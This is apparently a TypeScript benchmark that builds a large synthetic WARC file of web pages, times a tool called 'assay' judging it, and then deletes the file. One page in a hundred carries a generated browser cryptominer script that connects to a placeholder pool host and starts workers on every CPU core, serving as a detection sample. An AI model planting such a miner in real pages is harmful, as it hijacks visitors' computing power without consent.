import { spawn } from 'node:child_process'
import { createHash } from 'node:crypto'
import { closeSync, mkdtempSync, openSync, rmSync, statSync, writeSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { parseArgs } from 'node:util'
import { watchProcesses } from './process-usage.ts'

// `assay judge FILE` over a large WARC of our own: pages with scripts, one in a hundred of them with a miner's, and films beside them that make
// the file as large as asked. The file and what was spilled of it are gone afterwards.
// npm run bench -- warc [--gb 10] [--pages 2000]

const { values } = parseArgs({ options: { gb: { type: 'string', default: '10' }, pages: { type: 'string', default: '2000' } } })
const pages = Number(values.pages)
const size = Number(values.gb) * 1e9
const folder = mkdtempSync(join(process.env['TMPDIR'] ?? (tmpdir() === '/tmp' ? '/var/tmp' : tmpdir()), 'assay-bench-warc-'))
const file = join(folder, 'large.warc')

/** Octets that nothing makes shorter. */
const noise = Buffer.concat(Array.from({ length: 32_768 }, (_, at) => createHash('sha256').update(String(at)).digest()))

function record(to: number, url: string, type: string, ...body: Uint8Array[]): void {
  const head = Buffer.from(`HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\n\r\n`)
  const length = body.reduce((sum, { length: octets }) => sum + octets, head.length)
  const warc = `WARC/1.1\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:bench:${url}>\r\nWARC-Target-URI: ${url}\r\nWARC-Date: 2026-01-02T03:04:05Z\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: ${length}\r\n\r\n`
  for (const piece of [Buffer.from(warc), head, ...body, Buffer.from('\r\n\r\n')]) writeSync(to, piece)
}

const paragraph = (at: number): string =>
  `<p class="t">Page ${at} of many, with a <a href="/p${at + 1}.html">link</a> and words that nobody reads.</p>\n`
const miner = (at: number): string =>
  `<script>var s${at} = new WebSocket("wss://pool${at}.example/proxy"); s${at}.onopen = function () { s${at}.send(JSON.stringify({ type: "auth", params: { site_key: "k${at}", user: null, goal: 0 } })) };
for (var i = 0; i < navigator.hardwareConcurrency; i++) { var w = new Worker("/cryptonight-worker.js"); w.onmessage = function (e) { s${at}.send(JSON.stringify({ type: "submit", params: { job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result } })) } }</script>`

try {
  const to = openSync(file, 'wx', 0o600)
  const film = Math.max(0, size / pages - 12_000)
  for (let at = 0; at < pages; at++) {
    const code = `function f${at}(x) { return document.getElementById("a" + x + ${at}) }\n`.repeat(20)
    const html = `<!doctype html><title>Page ${at}</title><script>${code}</script>${at % 100 === 0 ? miner(at) : ''}${paragraph(at).repeat(60)}`
    record(to, `http://site${at}.example/`, 'text/html', Buffer.from(html))
    for (let left = film, part = 0; left > 0; left -= 32e6, part++) {
      const pieces = Array.from({ length: Math.ceil(Math.min(left, 32e6) / noise.length) }, () => noise)
      record(to, `http://site${at}.example/film-${part}.mp4`, 'video/mp4', Buffer.from(`${at} ${part}`), ...pieces)
    }
  }
  closeSync(to)
  console.log(`${pages} pages, ${(statSync(file).size / 1e9).toFixed(2)} GB`)
  const started = performance.now()
  const child = spawn(fileURLToPath(new URL('../assay', import.meta.url)), ['judge', '--json', file], { stdio: ['ignore', 'pipe', 'pipe'] })
  const usage = watchProcesses(child.pid!)
  const statuses = new Map<string, number>()
  let rest = ''
  let first = 0
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
    first ||= performance.now() - started
    const lines = (rest + chunk).split('\n')
    rest = lines.pop() ?? ''
    for (const line of lines) {
      const status = (JSON.parse(line) as { status?: string }).status ?? 'error'
      statuses.set(status, (statuses.get(status) ?? 0) + 1)
    }
  })
  let said = ''
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (said = (said + chunk).slice(-2_000)))
  await new Promise((ended) => child.once('close', ended))
  const { cpuSeconds, peakPssBytes } = usage.stop()
  const judged = [...statuses.values()].reduce((sum, n) => sum + n, 0)
  console.log(`judged ${judged}: ${[...statuses].map(([status, n]) => `${status} ${n}`).join(', ')}`)
  console.log(
    `${((performance.now() - started) / 1000).toFixed(0)} s, first answer after ${(first / 1000).toFixed(0)} s; ${cpuSeconds.toFixed(0)} CPU-s; highest memory of all processes together ${(peakPssBytes / 1e6).toFixed(0)} MB`,
  )
  if (said !== '') console.log(`it said: ${said.split('\n').slice(-4).join(' ')}`)
  process.exitCode = judged === pages ? 0 : 1
} finally {
  rmSync(folder, { recursive: true, force: true })
}
